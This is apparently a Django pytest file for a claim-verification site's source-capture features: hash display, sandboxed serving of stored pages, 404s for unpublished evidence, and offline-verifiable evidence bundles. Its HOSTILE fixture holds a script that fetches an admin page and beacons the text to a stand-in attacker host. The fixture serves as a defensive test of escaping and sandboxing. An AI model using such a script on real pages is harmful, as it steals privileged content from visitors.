"""Readers see the evidence: on the claim page each source says when it was
captured, its SHA-256 and where the stored copy is, and a gone source points
to it. The stored copy is someone else's page: its text is shown on ours, its
raw HTML only sandboxed. Only captures that published material cites are
served; anything else is the same 404 as an unknown id."""

import hashlib
import io
import json
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from claims.capture.capturing import mark_gone
from claims.capture.downloads import SANDBOX_POLICY
from claims.models import Capture, Source
from claims.vocabularies import Stance

from .capture_support import ARTICLE, capture_of
from .factories import AssessmentFactory, ClaimFactory, SourceFactory, StatementFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("capture_settings")]

HOSTILE = (
    b"<html><head><title>Hostile</title><script>fetch('/admin/').then(r=>r.text())"
    b".then(t=>navigator.sendBeacon('https://evil.example/',t))</script></head>"
    b"<body><p>Prigozhin said the flag is up.</p><img src='https://evil.example/pixel.gif'></body></html>"
)


def cited_capture(body=ARTICLE, published=True, **options):
    source = SourceFactory()
    claim = ClaimFactory(is_published=published)
    StatementFactory(claim=claim, sources=[source])
    capture = capture_of(source, body, **options)
    return claim, Source.objects.get(pk=source.pk), capture


def test_the_claim_page_shows_when_each_source_was_captured_and_its_hash(client):
    claim, source, capture = cited_capture()
    html = client.get(claim.get_absolute_url()).content.decode()
    assert f'title="{capture.sha256}"' in html
    assert capture.sha256[:12] in html
    assert f'href="{capture.get_absolute_url()}"' in html
    assert "Captured" in html


def test_a_source_still_being_captured_says_so(client):
    source = SourceFactory()  # saved with a URL: its capture is pending
    claim = ClaimFactory()
    StatementFactory(claim=claim, sources=[source])
    assert "Capture pending" in client.get(claim.get_absolute_url()).content.decode()


def test_a_gone_source_says_so_and_points_to_the_stored_copy(client):
    claim, source, capture = cited_capture()
    mark_gone(source.pk, timezone.now())
    html = client.get(claim.get_absolute_url()).content.decode()
    assert "Gone since" in html
    assert "read our stored copy" in html
    assert capture.get_absolute_url() in html


def test_the_capture_page_shows_hashes_and_the_text_escaped(client):
    _, _, capture = cited_capture(HOSTILE)
    response = client.get(capture.get_absolute_url())
    html = response.content.decode()
    assert response.status_code == 200
    assert capture.sha256 in html and capture.warc_sha256 in html
    assert "Prigozhin said the flag is up." in html
    assert "<script>fetch" not in html  # the page's own markup never reaches ours
    assert "sandbox" not in response["Content-Security-Policy"]  # our page, our policy


def test_the_raw_page_is_served_sandboxed_and_never_sniffed(client):
    _, _, capture = cited_capture(HOSTILE)
    response = client.get(f"/captures/{capture.pk}/raw")
    assert response.status_code == 200
    assert response.content == HOSTILE
    assert response["Content-Security-Policy"] == SANDBOX_POLICY
    assert response["Content-Security-Policy"].startswith("sandbox")
    assert "default-src 'none'" in response["Content-Security-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"].startswith("text/html")


def test_a_stored_pdf_or_other_type_is_a_download_not_a_page(client):
    _, _, capture = cited_capture(b"%PDF-1.4 ...", content_type="application/pdf")
    response = client.get(f"/captures/{capture.pk}/raw")
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_the_warc_file_downloads_with_the_hash_we_show(client):
    _, _, capture = cited_capture()
    response = client.get(f"/captures/{capture.pk}.warc.gz")
    body = b"".join(response.streaming_content)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert hashlib.sha256(body).hexdigest() == capture.warc_sha256


@pytest.mark.parametrize("door", ["", "raw", ".warc.gz"])
def test_a_capture_only_a_draft_cites_is_a_plain_404(client, door):
    _, _, capture = cited_capture(published=False)
    path = f"/captures/{capture.pk}/{door}" if door != ".warc.gz" else f"/captures/{capture.pk}.warc.gz"
    unknown = path.replace(str(capture.pk), "999999")
    hidden, missing = client.get(path), client.get(unknown)
    assert hidden.status_code == missing.status_code == 404
    assert hidden.content.replace(path.encode(), b"") == missing.content.replace(unknown.encode(), b"")
    assert sorted(hidden.headers) == sorted(missing.headers)


def test_evidence_of_an_unpublished_assessment_is_not_served(client):
    source = SourceFactory()
    AssessmentFactory(claim=ClaimFactory(), is_published=False).evidence.set([source])
    capture = capture_of(source)
    assert client.get(capture.get_absolute_url()).status_code == 404
    AssessmentFactory(claim=ClaimFactory(), is_published=True).evidence.set([source])
    assert client.get(capture.get_absolute_url()).status_code == 200


def test_the_evidence_bundle_verifies_offline(client):
    claim, source, capture = cited_capture()
    second = capture_of(source, ARTICLE + b"<p>edited</p>")
    response = client.get(f"/claims/{claim.slug}/evidence.zip")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    bundle = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = set(bundle.namelist())
    assert {"claim.json", "manifest.json", "SHA256SUMS"} <= names
    # sha256sum -c SHA256SUMS, by hand: every listed file is there with that hash.
    for line in bundle.read("SHA256SUMS").decode().splitlines():
        digest, path = line.split("  ", 1)
        assert hashlib.sha256(bundle.read(path)).hexdigest() == digest
    manifest = json.loads(bundle.read("manifest.json"))
    by_id = {entry["id"]: entry for entry in manifest["captures"]}
    assert set(by_id) == {capture.pk, second.pk}
    assert by_id[capture.pk]["sha256"] == capture.sha256
    assert by_id[capture.pk]["warc_sha256"] == capture.warc_sha256
    record = json.loads(bundle.read("claim.json"))
    assert record["slug"] == claim.slug
    assert record["statements"][0]["sources"][0]["captures"] == [capture.pk, second.pk]


def test_the_evidence_bundle_holds_only_published_material(client):
    claim = ClaimFactory()
    on_page = SourceFactory()
    StatementFactory(claim=claim, sources=[on_page])
    draft_verdict = SourceFactory()
    AssessmentFactory(claim=claim, is_published=False, rationale="Internal view").evidence.set(
        [draft_verdict]
    )
    capture_of(on_page)
    hidden = capture_of(draft_verdict, ARTICLE + b"secret")
    bundle = zipfile.ZipFile(
        io.BytesIO(b"".join(client.get(f"/claims/{claim.slug}/evidence.zip").streaming_content))
    )
    assert f"captures/capture-{hidden.pk}.warc.gz" not in bundle.namelist()
    assert "Internal view" not in bundle.read("claim.json").decode()


def test_a_draft_claims_evidence_bundle_is_a_404(client):
    claim = ClaimFactory(is_published=False)
    StatementFactory(claim=claim, sources=1)
    assert client.get(f"/claims/{claim.slug}/evidence.zip").status_code == 404


def claim_with_captured_sources(n):
    claim = ClaimFactory()
    stances = [Stance.ASSERTS, Stance.DENIES]
    for i in range(n):
        sources = SourceFactory.create_batch(2)
        StatementFactory(claim=claim, stance=stances[i % 2], sources=sources)
        evidence = SourceFactory()
        AssessmentFactory(claim=claim).evidence.set([evidence])
        for source in [*sources, evidence]:
            capture_of(source)
            capture_of(source, ARTICLE + b"again")
    return claim


def count_queries(client, url):
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


def test_the_claim_page_queries_do_not_grow_with_sources_or_captures(client):
    one, many = claim_with_captured_sources(1), claim_with_captured_sources(12)
    assert count_queries(client, one.get_absolute_url()) == count_queries(client, many.get_absolute_url())


def test_the_bundle_queries_do_not_grow_with_captures(client):
    one, many = claim_with_captured_sources(1), claim_with_captured_sources(8)
    assert count_queries(client, f"/claims/{one.slug}/evidence.zip") == count_queries(
        client, f"/claims/{many.slug}/evidence.zip"
    )


def test_deleting_a_source_keeps_its_captures_and_serves_them_to_no_reader(client):
    claim, source, capture = cited_capture()
    claim.statements.all().delete()
    Source.objects.get(pk=source.pk).delete()
    kept = Capture.objects.get(pk=capture.pk)
    assert kept.source_id == source.pk and kept.sha256 == capture.sha256
    assert client.get(capture.get_absolute_url()).status_code == 404
